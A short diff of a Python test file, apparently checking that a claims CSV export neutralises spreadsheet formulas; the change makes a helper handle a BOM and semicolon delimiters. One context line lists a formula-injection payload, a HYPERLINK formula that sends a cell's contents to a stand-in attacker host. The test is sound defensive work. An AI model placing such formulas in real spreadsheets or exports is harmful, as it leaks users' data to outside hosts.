@@ -66,7 +66,8 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Apri")', "+39 333 1234567
 def export_rows(client, path):
     response = client.get(path)
     assert response.status_code == 200
-    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    text = response.get_data().decode("utf-8-sig")  # exports start with a BOM and split on ';' (Italian Excel)
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
 
 
 def test_the_claims_export_neutralises_formulas(client, desk):
